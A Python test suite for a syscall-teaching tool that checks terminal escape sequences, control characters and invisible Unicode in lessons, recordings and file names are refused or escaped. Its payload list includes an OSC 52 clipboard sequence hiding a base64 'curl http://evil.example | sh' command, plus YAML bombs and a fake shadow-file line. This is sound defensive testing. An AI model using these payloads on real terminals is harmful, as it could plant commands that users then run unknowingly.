"""Hostile files never reach the terminal: a corpus of what an attacker would put in a lesson, a
recording, a file name or a search path, through every command that reads them.

Each input ends in one located line (``FILE:LINE:COL: ...``) with no traceback, or is shown with
its characters as visible escapes; nothing is ever emitted raw. The same corpus runs through the
loader in-process (every text field and key of a lesson, every field of a recording, every
payload) and through the installed commands: ``check``, ``run``, ``list``, ``export`` and
``replay`` (in tmux: the pane's title, the clipboard and the screen are unchanged).
"""

from __future__ import annotations

import copy
import json
import os
import re
import stat
import subprocess
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from syscall_lab.lesson.loader import load_lesson
from syscall_lab.lesson.recording import RecordingError, read_recording
from syscall_lab.lesson.source import Problem
from syscall_lab.report.export import markdown
from syscall_lab.shown import UNSAFE_RANGES, codepoint, displayable, json_line, shown, unsafe

from .conftest import ROOT, need_tool, run_cli, wait_until
from .terminal import PROGRAM, _terminal

FIXTURE = Path(__file__).parent / "fixtures" / "recordings" / "handshake-v1.jsonl"

SEQUENCES = {
    "title": "\x1b]0;PWNED\x07",
    "title2": "\x1b]2;PWNED\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07",
    "clear": "\x1b[2J\x1b[H",
    "mode": "\x1b[?1049l\x1b[?25l",
    "dcs": "\x1bP$q\"p\x1b\\",
    "c1-csi": "\x9b2J",
    "c1-osc": "\x9d0;PWNED\x9c",
}
INVISIBLE = ["\u061c", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b",
             "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u2028",
             "\u2029", "\u00ad", "\ufeff", "\U000e0041", "\U000e0001", "\u2060", "\u3164"]
CONTROLS = [chr(n) for n in (*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)) if n != 0x0A]
PAYLOADS = [*SEQUENCES.values(), *CONTROLS, *INVISIBLE]
"""Every C0 control but the line feed, DEL, every C1 control, the bidi and invisible
characters, and the escape sequences that matter (OSC title and clipboard, CSI screen and mode,
DCS, in 7-bit and 8-bit form)."""
EVERYTHING = "".join(SEQUENCES.values()) + "\x00\u202e\u2028\U000e0041\u200b"


def raw_in(text: str, allow: str = "\n") -> str | None:
    """The first character of ``text`` that a terminal would obey (or that hides text)."""
    at = unsafe(text, allow=allow)
    return None if at is None else f"{codepoint(text[at])} at {at}: {text[max(0, at - 30):at + 10]!r}"


# -- the one boundary --------------------------------------------------------------------------

def test_the_table_holds_every_control_and_format_character_of_this_python() -> None:
    table = {n for lo, hi in UNSAFE_RANGES for n in range(lo, hi + 1)}
    missing = [f"U+{n:04X}" for n in range(0x110000) if n not in table
               and unicodedata.category(chr(n)) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    assert not missing, f"add to UNSAFE_RANGES (Unicode {unicodedata.unidata_version}): {missing}"


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: "-".join(f"{ord(c):x}" for c in p)[:40])
def test_shown_writes_every_payload_as_a_visible_escape(payload: str) -> None:
    for multiline in (False, True):
        out = shown(f"a{payload}b", multiline=multiline)
        assert raw_in(out, "\n" if multiline else "") is None, out
        assert out.startswith("a") and out.endswith("b")
        assert "\\" in out or (multiline and payload in "\t\r")  # a tab is spaces there
    assert json.loads(json_line({"k": payload})) == {"k": payload}  # the same data
    assert raw_in(json_line({"k": payload}), "") is None


def test_text_that_is_safe_is_shown_as_it_is() -> None:
    for text in ("listen(3, 2) = 0", "한국어 텍스트 ✓ ✗ → ⧗", "tab\tand\nline", "emoji 👍🏽"):
        assert shown(text, multiline=True) == text.expandtabs(8)
    assert shown("a\r\nb", multiline=True) == "a\nb"  # a terminal's line ends
    record = {"x": ("a", ["b"])}
    assert displayable(record) is record  # nothing to change: the same object


# -- lessons ---------------------------------------------------------------------------------------

LESSON = {
    "schema": 1, "id": "hostile", "level": "beginner", "network": "wire",
    "title": {"en": "A title", "ko": "제목"},
    "summary": {"en": "A summary.", "ko": "요약."},
    "topics": ["tcp", "socket"],
    "languages": ["en", "ko"],
    "actors": {"server": {"host": "server"}, "client": {"host": "client"}},
    "steps": [
        {"say": {"en": "Make a socket.", "ko": "소켓을 만듭니다."},
         "do": "server.socket(AF_INET, SOCK_STREAM)", "as": "lsock",
         "expect": ["lsock == 3", "lsock.state == CLOSE"],
         "hint": {"en": "A hint.", "ko": "힌트."}},
        {"say": {"en": "Listen.", "ko": "듣습니다."}, "do": "server.listen(lsock, 2)",
         "ask": {"question": {"en": "Which state?", "ko": "어떤 상태?"},
                 "choices": [{"en": "Listening", "ko": "듣기"}, {"en": "Closed", "ko": "닫힘"}],
                 "answer": 1, "explain": {"en": "It listens.", "ko": "듣습니다."}},
         "expect": "lsock.state == LISTEN"},
    ],
}


def _dump(data: Any) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)


def _walk(obj: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any, bool]]:
    """(path, value, is a key) of every value and every mapping key in a JSON-like value."""
    if path:
        yield path, obj, False
    if isinstance(obj, dict):
        for k, v in obj.items():
            yield (*path, k), k, True
            yield from _walk(v, (*path, k))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            yield from _walk(v, (*path, i))


def _strings(obj: Any) -> list[tuple[Any, ...]]:
    """The path of every string in ``obj`` (each text field, name, topic, id, do, expect)."""
    return [p for p, v, key in _walk(obj) if isinstance(v, str) and not key]


def _keys(obj: Any) -> list[tuple[Any, ...]]:
    """The path of every mapping key (a key, a language key, an actor's name)."""
    return [p for p, _, key in _walk(obj) if key]


def _poisoned(path: tuple[Any, ...], payload: str, key: bool = False) -> dict[str, Any]:
    data = copy.deepcopy(LESSON)
    *parent, last = path
    node: Any = data
    for p in parent:
        node = node[p]
    if key:
        node[last[:1] + payload + last[1:]] = node.pop(last)
    else:
        node[last] = node[last][:1] + payload + node[last][1:]
    return data


def _one_located_problem(text: str, payload: str) -> Problem:
    got = load_lesson(text, "hostile.yaml")
    assert isinstance(got, list), f"loaded with {payload!r} in it"
    assert len(got) == 1, "\n".join(map(str, got))
    p = got[0]
    assert raw_in(str(p), "") is None, str(p)
    first = payload[unsafe(payload)]
    assert codepoint(first) in p.message, str(p)
    # It points at the character itself, or at the backslash of the escape that wrote it.
    line = text.split("\n")[p.line - 1]
    assert line[p.col - 1] in (first, "\\"), (str(p), line)
    return p


def test_the_base_lesson_loads() -> None:
    assert not isinstance(load_lesson(_dump(LESSON), "hostile.yaml"), list)


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: "-".join(f"{ord(c):x}" for c in p)[:40])
def test_every_text_field_refuses_every_payload_at_its_character(payload: str) -> None:
    paths = list(_strings(LESSON))
    assert len(paths) >= 30  # ids, names, topics, every text, do, expect, as ...
    for path in paths:
        _one_located_problem(_dump(_poisoned(path, payload)), payload)


@pytest.mark.parametrize("payload", [*SEQUENCES.values(), "\x00", "\x7f", "\x85", "\u202e",
                                     "\u200b", "\U000e0041"])
def test_every_key_refuses_every_payload(payload: str) -> None:
    for path in _keys(LESSON):
        if isinstance(path[-1], str):
            _one_located_problem(_dump(_poisoned(path, payload, key=True)), payload)


@pytest.mark.parametrize("text,message", [
    ("a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [{', '.join(['*' + p] * 10)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=False)),
     "more than 100000 values"),
    ("a: " + "[" * 200 + "]" * 200 + "\n", "nested more than 32 levels deep"),
    ("schema: 1\nid: x\x00y\n", "control character U+0000 (NUL)"),
    ("schema: 1\ntitle: caf\xe9\n", "not UTF-8 text"),
    ("schema: 1\n" + "# padding\n" * 60_000, "a lesson is at most 512 KiB"),
    ("root:$y$j9T$0123456789abcdefgh:20000:0:99999:7:::\nbin:*:20000:0:99999:7:::\n",
     "not a lesson file: none of its keys is a lesson's"),
    ("schema: 1\nid: x\n\"k\\e]0;pwned\\a\": 1\n", "control character U+001B (ESC)"),
    ("schema: 1\nid: x\n" + "a" * 1000 + ": 1\n", "unknown key (not a word like 'say')"),
    ("schema: 1\nid: x\nsay_" + "a" * 36 + ": 1\n", "unknown key 'say_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'"),
], ids=["billion-laughs", "deep", "nul", "latin-1", "big", "shadow", "escaped-key", "long-key",
        "word-key"])
def test_bombs_and_strangers_are_one_located_line(text: str, message: str) -> None:
    raw = text.encode("latin-1") if "caf\xe9" in text else text.encode("utf-8")
    got = load_lesson(raw[:512 * 1024 + 1] if len(raw) > 600_000 else raw, "x.yaml")
    assert isinstance(got, list)
    assert any(message in p.message for p in got), "\n".join(map(str, got))
    assert raw_in("\n".join(map(str, got)), "\n") is None
    assert all(len(p.message) < 400 for p in got)  # a message never carries the file


def _lesson_dir(tmp_path: Path) -> Path:
    """A directory of poisoned lesson files (one payload each, in a different field), one with
    an escape sequence in its name, a FIFO and a link to a file no lesson directory holds."""
    d = tmp_path / "lessons"
    d.mkdir()
    paths = list(_strings(LESSON))
    for n, payload in enumerate(PAYLOADS):
        text = _dump(_poisoned(paths[n % len(paths)], payload))
        (d / f"p{n:03d}.yaml").write_text(text, encoding="utf-8")
    (d / "bad\x1b]0;PWNED\x07.yaml").write_text("schema: 2\n", encoding="utf-8")
    os.mkfifo(d / "fifo.yaml")
    secret = tmp_path / "secret.txt"
    secret.write_text("root:$y$j9T$SECRET-HASH:20000:0:99999:7:::\n", encoding="utf-8")
    (d / "shadow.yaml").symlink_to(secret)
    return d


def test_check_and_list_say_one_located_line_per_file_and_nothing_raw(tmp_path: Path) -> None:
    d = _lesson_dir(tmp_path)
    for command in (["check", "--no-run", str(d)], ["list", str(d)]):
        r = run_cli(*command, timeout=120)
        out = r.stdout + r.stderr
        assert r.returncode == 2, out
        assert "Traceback" not in out and raw_in(out) is None, raw_in(out)
        assert "SECRET-HASH" not in out and "PWNED\x07" not in out
        assert re.search(r"shadow\.yaml(:1:1)?: a link to a file outside the lesson directories",
                         out), out
        assert "fifo.yaml:1:1: a FIFO (a named pipe), not a lesson file" in out, out
        assert "bad\\x1b]0;PWNED\\x07.yaml:" in out, out  # the name, as visible escapes
        located = re.findall(r"/p(\d{3})\.yaml:(\d+):(\d+): ", out)
        assert sorted({int(n) for n, _, _ in located}) == list(range(len(PAYLOADS))), out


def test_run_on_a_poisoned_lesson_is_one_line(tmp_path: Path) -> None:
    lesson = tmp_path / "title.yaml"
    lesson.write_text(_dump(_poisoned(("title", "en"), SEQUENCES["title"])), encoding="utf-8")
    r = run_cli("run", str(lesson))
    assert r.returncode == 2 and r.stdout == ""
    assert r.stderr.count("\n") == 1 and raw_in(r.stderr) is None, r.stderr
    assert re.match(r".*title\.yaml:\d+:\d+: control character U\+001B \(ESC\)", r.stderr)


@pytest.mark.parametrize("kind", ["fifo", "device", "directory", "loop", "big"])
def test_files_that_are_not_lessons_are_named_for_what_they_are(tmp_path: Path,
                                                                 kind: str) -> None:
    path = tmp_path / "x.yaml"
    if kind == "fifo":
        os.mkfifo(path)
        want = "a FIFO (a named pipe), not a lesson file"
    elif kind == "device":
        path = Path("/dev/zero")
        want = "a character device, not a lesson file"
    elif kind == "directory":
        path.mkdir()
        (path / "y.yaml").write_text("schema: 1\n", encoding="utf-8")
        want = None
    elif kind == "loop":
        (tmp_path / "y.yaml").symlink_to(path)
        path.symlink_to(tmp_path / "y.yaml")
        want = "a loop of symbolic links"
    else:
        with path.open("wb") as f:
            f.truncate(50 * 1024 * 1024)  # sparse: 50 MiB that take no room
        want = "the file is 50 MiB; a lesson is at most 512 KiB"
    for command in (["check", str(path)], ["run", str(path)]):
        r = run_cli(*command, timeout=30)  # a FIFO or /dev/zero would hang or fill memory
        assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr
        if want is not None:
            assert f"{path}:1:1: {want}" in r.stdout + r.stderr, r.stdout + r.stderr


@pytest.mark.kernel
def test_a_bad_search_path_is_a_warning_and_the_lesson_still_runs(tmp_path: Path) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0)
    env = {**os.environ, "SYSCALL_LAB_LESSONS": os.pathsep.join([
        str(locked / "inside"), str(tmp_path / "missing"), "/x" * 3000, str(tmp_path)]),
        "XDG_DATA_HOME": str(tmp_path / "data")}
    (tmp_path / "data" / "syscall-lab").mkdir(parents=True)
    (tmp_path / "data" / "syscall-lab" / "lessons").write_text("not a directory")
    try:
        r = run_cli("list", env=env)
        assert r.returncode == 0, r.stderr
        warnings = [x for x in r.stderr.splitlines() if "[warning]" in x]
        assert len(warnings) == 4, r.stderr
        assert "Traceback" not in r.stderr and "internal error" not in r.stderr
        assert "backlog" in r.stdout
        r = run_cli("run", "files", env=env)  # a lesson by its id: the search itself
        assert r.returncode == 0, r.stdout + r.stderr
        assert len([x for x in r.stderr.splitlines() if "[warning]" in x]) == 4, r.stderr
    finally:
        locked.chmod(stat.S_IRWXU)


def test_a_lesson_directory_follows_a_link_only_to_a_lesson_inside_one(tmp_path: Path) -> None:
    d = tmp_path / "mine"
    d.mkdir()
    good = (ROOT / "lessons" / "files.yaml").read_text(encoding="utf-8")
    (tmp_path / "elsewhere.yaml").write_text(good.replace("id: files", "id: elsewhere"))
    (d / "real.yaml").write_text(good.replace("id: files", "id: mine"))
    (d / "alias.yaml").symlink_to(d / "real.yaml")  # inside: followed (one lesson, one id)
    (d / "out.yaml").symlink_to(tmp_path / "elsewhere.yaml")  # outside: passed by
    r = run_cli("list", str(d))
    assert "mine" in r.stdout and "elsewhere" not in r.stdout, r.stdout + r.stderr
    assert re.search(r"out\.yaml(:1:1)?: a link to a file outside the lesson directories: not "
                     "read", r.stderr), r.stderr


# -- outputs never replace an input ---------------------------------------------------------------

def test_outputs_never_replace_inputs_or_each_other(tmp_path: Path) -> None:
    lesson = tmp_path / "l.yaml"
    lesson.write_text((ROOT / "lessons" / "files.yaml").read_text(encoding="utf-8"))
    before = lesson.read_bytes()
    recording = tmp_path / "r.jsonl"
    recording.write_bytes(FIXTURE.read_bytes())
    cases = [
        (["run", str(lesson), "--pcap", str(lesson)], "--pcap", "is the lesson itself"),
        (["run", str(lesson), "--record", str(lesson)], "--record", "is the lesson itself"),
        (["run", str(lesson), "--record", str(tmp_path / "n.jsonl"), "--pcap",
          str(tmp_path / "n.jsonl")], "--pcap", "another output of this command"),
        (["run", str(lesson), "--record", str(tmp_path / "n.jsonl"), "--pcap",
          str(tmp_path / "n.pcap")], "--pcap", "another output of this command"),
        (["export", str(recording), "--lang", "en", "-o", str(recording)], "-o",
         "the recording being read"),
        (["export", str(recording), "--lang", "en", "-o", str(tmp_path / "r.pcap")], "-o",
         "the recording being read"),
    ]
    for args, option, what in cases:
        r = run_cli(*args)
        assert r.returncode == 2 and r.stderr.count("\n") == 1, (args, r.stderr)
        assert f"{option} " in r.stderr and what in r.stderr, (args, r.stderr)
    assert lesson.read_bytes() == before and recording.read_bytes() == FIXTURE.read_bytes()
    assert not (tmp_path / "n.jsonl").exists()


@pytest.mark.parametrize("how", ["symlink", "hardlink", "fifo"])
def test_an_output_is_never_written_through_a_planted_file(tmp_path: Path, how: str) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "report.md"
    if how == "symlink":
        out.symlink_to(victim)
    elif how == "hardlink":
        os.link(victim, out)
    else:
        os.mkfifo(out)
    r = run_cli("export", str(FIXTURE), "--lang", "en", "-o", str(out), timeout=30)
    assert r.returncode == 2 and r.stderr.count("\n") == 1, r.stderr
    assert f"cannot write {out}" in r.stderr, r.stderr
    assert victim.read_text() == "precious\n"


# -- recordings ------------------------------------------------------------------------------------

def _fixture_lines() -> list[Any]:
    return [json.loads(x) for x in FIXTURE.read_text(encoding="utf-8").splitlines()]


def _pattern(path: tuple[Any, ...], key: bool) -> tuple[Any, ...]:
    """A field, whichever frame, record, packet or fd it is in."""
    p = tuple("*" if isinstance(x, int) or (isinstance(x, str) and x.isdigit()) else x
              for x in path)
    return (*p, "<key>") if key else p


def _patterns() -> dict[tuple[Any, ...], list[tuple[int, tuple[Any, ...], bool]]]:
    out: dict[tuple[Any, ...], list[tuple[int, tuple[Any, ...], bool]]] = {}
    for n, obj in enumerate(_fixture_lines()):
        for path, value, key in _walk(obj):
            if not (key or isinstance(value, str)):
                continue
            out.setdefault(((0 if n == 0 else 1), *_pattern(path, key)), []).append((n, path, key))
    return out


def _poison(lines: list[Any], where: list[tuple[int, tuple[Any, ...], bool]],
            payload: str) -> list[Any]:
    for n, path, key in sorted(where, key=lambda w: (w[0], len(w[1])), reverse=True):
        node = lines[n]
        for p in path[:-1]:
            node = node[p]
        last = path[-1]
        if key:
            if last in node:
                node[last + payload] = node.pop(last)
        else:
            node[last] = node[last] + payload
    return lines


def _write(path: Path, lines: list[Any]) -> Path:
    path.write_text("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines),
                    encoding="utf-8")
    return path


def _read_or_located(path: Path) -> Any:
    """The recording, or None after checking its error is one located, safe line."""
    try:
        rec = read_recording(path)
    except RecordingError as exc:
        text = str(exc)
        assert raw_in(text, "") is None, text
        assert re.match(rf"{re.escape(str(path))}:\d+(:\d+)?: ", text), text
        assert len(text) < 600, text
        return None
    for lang in ("en", "ko"):
        report = markdown(rec, lang)
        assert raw_in(report) is None, raw_in(report)
        assert "<script" not in report
    return rec


def test_every_field_of_a_recording_is_refused_located_or_shown_escaped(tmp_path: Path) -> None:
    patterns = _patterns()
    assert len(patterns) > 150, len(patterns)  # the header's, frames', records', packets'...
    accepted = []
    for n, (pattern, where) in enumerate(sorted(patterns.items(), key=str)):
        path = _write(tmp_path / f"p{n}.jsonl", _poison(_fixture_lines(), where, EVERYTHING))
        if _read_or_located(path) is not None:
            accepted.append(pattern)
    assert ("0", "made") not in accepted  # (a sanity check of the patterns' form)
    assert (0, "made") in accepted and (0, "machine", "kernel") in accepted  # shown escaped
    assert (1, "records", "*", "outcome", "c") in accepted


def test_every_field_of_a_recording_given_the_wrong_kind_of_value_is_located(
        tmp_path: Path) -> None:
    """Damage, not hostility: each field given a value of another kind (text, a number, a list,
    an object) is a located error, or a recording that still reads, exports and checks."""
    lines = _fixture_lines()
    fields: dict[tuple[Any, ...], list[tuple[int, tuple[Any, ...]]]] = {}
    for n, obj in enumerate(lines):
        for path, _, key in _walk(obj):
            if key:
                continue
            fields.setdefault((min(n, 1), *_pattern(path, False)), []).append((n, path))
    assert len(fields) > 300
    for field, where in sorted(fields.items(), key=str):
        for swap in ("x", 7, [], {}):
            damaged = copy.deepcopy(lines)
            for n, path in where:
                node = damaged[n]
                for p in path[:-1]:
                    node = node[p]
                node[path[-1]] = copy.deepcopy(swap)
            try:
                _read_or_located(_write(tmp_path / "d.jsonl", damaged))
            except Exception as exc:
                raise AssertionError(f"{field} = {swap!r}: {exc!r}") from exc


def _all_poisoned(tmp_path: Path) -> Path:
    """The frozen recording with every text field that still loads when poisoned, poisoned at
    once."""
    lines = _fixture_lines()
    for field, where in sorted(_patterns().items(), key=str):
        if field[-1] == "<key>":  # a renamed key is tried on its own (the test above)
            continue
        trial = _poison(copy.deepcopy(lines), where, EVERYTHING)
        path = _write(tmp_path / "trial.jsonl", trial)
        try:
            read_recording(path)
        except RecordingError:
            continue
        lines = trial
    return _write(tmp_path / "poisoned.jsonl", lines)


async def test_a_poisoned_recording_replays_with_nothing_raw_on_screen(tmp_path: Path) -> None:
    from syscall_lab.tui import make_app
    from syscall_lab.tui.screens.replay import ReplayScreen

    rec = read_recording(_all_poisoned(tmp_path))
    app = make_app(replay=rec, lang="en", progress_path=tmp_path / "p.json")
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, ReplayScreen)
        seen = ""
        for stop in range(len(screen.stops)):
            screen.go(stop)
            for key in ("v", "v", "v", "v"):  # every view of the wire too
                await pilot.press(key)
                await pilot.pause()
                svg = app.export_screenshot()
                assert raw_in(svg, "\n\t") is None, raw_in(svg, "\n\t")
                seen += svg
        # the poisoned header is on screen, as text: the escape is visible, not obeyed
        assert "\\x1b]0;PWNED\\x07" in seen.replace("&#160;", " ")


def test_replay_and_export_of_a_poisoned_recording_in_a_real_terminal(tmp_path: Path) -> None:
    """In tmux, with the clipboard open to programs (set-clipboard on): neither the pane's
    title nor tmux's buffers change, and the screen is the replay's."""
    poisoned = _all_poisoned(tmp_path)
    server = f"syscall-lab-hostile-{os.getpid()}"
    term = _terminal(tmp_path, shell=f"{PROGRAM} replay {poisoned} --lang en; sleep 30",
                     size=(120, 36), server=server)
    try:
        term.run("set", "-g", "set-clipboard", "on")
        term.run("set", "-g", "allow-rename", "on")
        title = term.show("#{pane_title}")
        screen = term.wait_for(r"RECORDING")
        for key in ("Right", "Right", "v", "End", "v", "Left", "Home", "End"):
            term.keys(key)
            screen = term.wait_for(r"RECORDING")
        assert "\\x1b]0;PWNED\\x07" in screen, screen
        assert term.show("#{pane_title}") == title
        assert term.run("list-buffers").stdout == ""  # no OSC 52 reached the clipboard
        assert term.show("#{alternate_on}") == "1"  # still the replay's screen, not cleared
        term.keys("q")
        assert wait_until(lambda: "RECORDING" not in term.screen(), timeout=10)
        assert term.show("#{alternate_on} #{cursor_flag}") == "0 1"
    finally:
        term.close()
    r = run_cli("export", str(poisoned))
    assert r.returncode == 0 and raw_in(r.stdout) is None and raw_in(r.stderr) is None


@pytest.mark.parametrize("damage,message", [
    (b"[" * 100_000, "nested more than 16 levels deep"),
    (b'{"format": "syscall-lab recording", "version": 1, "lang": "en", "lesson": '
     + b"[" * 200 + b"]" * 200 + b"}\n", "the header names no lesson"),
])
def test_deeply_nested_json_is_one_located_line(tmp_path: Path, damage: bytes,
                                                 message: str) -> None:
    path = tmp_path / "deep.jsonl"
    path.write_bytes(damage + b"\n")
    r = run_cli("export", str(path))
    assert r.returncode == 2 and r.stderr.count("\n") == 1, r.stderr
    assert f"{path}:1: {message}" in r.stderr, r.stderr


def test_records_nested_too_deep_in_a_frame_are_refused(tmp_path: Path) -> None:
    lines = _fixture_lines()
    events = lines[3]["records"][0].setdefault("events", [])
    deep: Any = "x"
    for _ in range(40):
        deep = [deep]
    events.append({"event": "output", "actor": "server", "data": deep})
    r = run_cli("export", str(_write(tmp_path / "deep.jsonl", lines)))
    assert r.returncode == 2 and "nested more than 16 levels deep" in r.stderr, r.stderr


@pytest.mark.parametrize("kind", ["zero", "fifo", "directory", "big"])
def test_a_recording_that_is_not_a_file_is_refused_at_once(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "r.jsonl"
    if kind == "zero":
        path = Path("/dev/zero")
        want = "a character device, not a recording file"
    elif kind == "fifo":
        os.mkfifo(path)
        want = "a FIFO (a named pipe), not a recording file"
    elif kind == "directory":
        path.mkdir()
        want = "a directory, not a recording file"
    else:
        with path.open("wb") as f:
            f.truncate(300 * 1024 * 1024)
        want = "the file is 300 MiB; a recording is at most 256 MiB"
    for command in ("export", "replay"):
        r = run_cli(command, str(path), timeout=30)
        assert r.returncode == 2 and r.stderr == f"syscall-lab: {path}: {want}\n", r.stderr


# -- an edited recording is not believed ------------------------------------------------------------

FAILING = """\
schema: 1
id: failing
title: A failing check
summary: One check that the kernel contradicts.
actors: [app]
steps:
  - say: A socket.
    do: app.socket(AF_INET, SOCK_STREAM)
    expect: [ret == 999, ret == 3]
"""


@pytest.mark.kernel
def test_an_edited_verdict_is_shown_as_the_recorded_kernel_state_gives_it(tmp_path: Path) -> None:
    lesson = tmp_path / "failing.yaml"
    lesson.write_text(FAILING, encoding="utf-8")
    rec = tmp_path / "r.jsonl"
    assert run_cli("run", str(lesson), "--record", str(rec)).returncode == 1
    lines = _fixture_lines_of(rec)
    record = next(x for x in lines if "records" in x)["records"][0]
    check = next(c for c in record["checks"] if c["expect"] == "ret == 999")
    assert check["ok"] is False and check["actual"] == 3
    check["ok"] = True  # the edit
    edited = _write(tmp_path / "edited.jsonl", lines)
    honest = read_recording(rec)
    assert honest.altered == 0
    got = read_recording(edited)
    assert got.altered == 1 and [f.altered for f in got.frames] == [0, 1]
    last = got.frames[-1].state.records[0]
    assert [c.ok for c in last.checks] == [False, True] and last.altered == ("ret == 999",)
    report = run_cli("export", str(edited), "--lang", "en").stdout
    assert "- ✗ ret == 999 (the kernel shows 3)" in report, report
    assert "Checks: 1 passed, 1 failed" in report
    assert "This recording was altered" in report and "⚠ altered:" in report


def _fixture_lines_of(path: Path) -> list[Any]:
    return [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines()]


# -- signals ---------------------------------------------------------------------------------------

def _terminal_restored(term: Any) -> None:
    flags = term.show("#{alternate_on} #{mouse_any_flag} #{mouse_button_flag} "
                      "#{mouse_standard_flag} #{mouse_sgr_flag} #{cursor_flag}")
    assert flags == "0 0 0 0 0 1", flags  # main screen, no mouse reporting, the cursor shown


@pytest.mark.kernel
@pytest.mark.parametrize("front,signal_name,status", [
    ("lesson", "TERM", 143), ("lesson", "HUP", 129), ("lesson", "INT", 130),
    ("sandbox", "TERM", 143), ("demo", "HUP", 129), ("replay", "TERM", 143),
])
def test_a_signal_restores_the_terminal_ends_the_lab_and_closes_the_recording(
        tmp_path: Path, front: str, signal_name: str, status: int) -> None:
    need_tool("tmux")
    rec, done = tmp_path / "s.jsonl", tmp_path / "status"
    args = {"lesson": f"handshake --record {rec}", "sandbox": f"sandbox --record {rec}",
            "demo": f"demo handshake --pace 30s --record {rec}",
            "replay": f"replay {FIXTURE}"}[front]
    term = _terminal(tmp_path, shell=f"{PROGRAM} {args} --lang en; echo $? > {done}; sleep 30",
                     size=(120, 36))
    try:
        term.wait_for(r"RECORDING" if front == "replay" else r"lab ready")
        assert term.show("#{alternate_on}") == "1"
        shell = term.pid()
        app = next(iter(_children(shell)))
        subprocess.run(["kill", f"-{signal_name}", str(app)], check=True)
        assert wait_until(done.exists, timeout=20), term.screen()
        assert done.read_text().strip() == str(status)
        _terminal_restored(term)
    finally:
        term.close()
    if front != "replay":
        got = read_recording(rec)
        assert got.end is not None, "the recording has no end line"


def _children(pid: int) -> set[int]:
    out = set()
    for task in Path(f"/proc/{pid}/task").glob("*"):
        out |= {int(k) for k in (task / "children").read_text().split()}
    return out


@pytest.mark.kernel
@pytest.mark.parametrize("signal_name,status", [("TERM", 143), ("HUP", 129), ("INT", 130)])
def test_run_ends_on_a_signal_with_its_status_and_a_closed_recording(
        tmp_path: Path, signal_name: str, status: int) -> None:
    rec = tmp_path / "r.jsonl"
    proc = subprocess.Popen([str(PROGRAM), "run", "backlog", "--record", str(rec)],
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                            cwd=ROOT)
    try:
        assert wait_until(lambda: rec.exists() and rec.read_text().count("\n") >= 3, timeout=30)
        proc.send_signal(getattr(__import__("signal"), f"SIG{signal_name}"))
        assert proc.wait(timeout=30) == status
        assert "interrupted; the lab was shut down" in (proc.stderr.read() if proc.stderr
                                                        else "")
    finally:
        proc.kill()
        proc.wait()
    assert read_recording(rec).end is not None


# -- what actors write and read ----------------------------------------------------------------

NOISY = """\
schema: 1
id: noisy
title: Noisy
summary: An actor writes and reads bytes a terminal would obey.
actors: [app]
steps:
  - say: It writes a NUL, a carriage return and a tab.
    do: app.write(1, "a\\0b\\rc\\td\\n")
  - say: It opens the kernel's random bytes...
    do: app.open("/dev/urandom", O_RDONLY)
  - say: ...and reads 4 KiB of them, every byte value among them.
    do: app.read(3, 4096)
"""


@pytest.mark.kernel
def test_what_an_actor_writes_and_reads_is_shown_never_emitted(tmp_path: Path) -> None:
    lesson = tmp_path / "noisy.yaml"
    lesson.write_text(NOISY, encoding="utf-8")
    for args in ([], ["--json"]):
        r = run_cli("run", str(lesson), *args)
        assert r.returncode == 0, r.stderr
        assert raw_in(r.stdout) is None, raw_in(r.stdout)
    assert "a\\0b" in r.stdout or "a\\u0000b" in r.stdout


@pytest.mark.kernel
async def test_the_lesson_screen_shows_what_an_actor_wrote_and_read_as_text(
        tmp_path: Path) -> None:
    from syscall_lab.lesson.loader import load_text
    from syscall_lab.tui.widgets import KernelPanes

    from .tui_support import app_for, press_steps

    lesson = load_text(NOISY, str(tmp_path / "noisy.yaml"))
    app = app_for(tmp_path, lesson=lesson)
    async with app.run_test(size=(120, 36)) as pilot:
        screen = await press_steps(pilot, app, 3)
        screen.query_one(KernelPanes).open("console")  # what the actors wrote
        await pilot.pause()
        svg = app.export_screenshot()
        assert raw_in(svg, "\n\t") is None, raw_in(svg, "\n\t")
        assert "a\\0b" in svg.replace("&#160;", " "), "the NUL is shown as \\0"
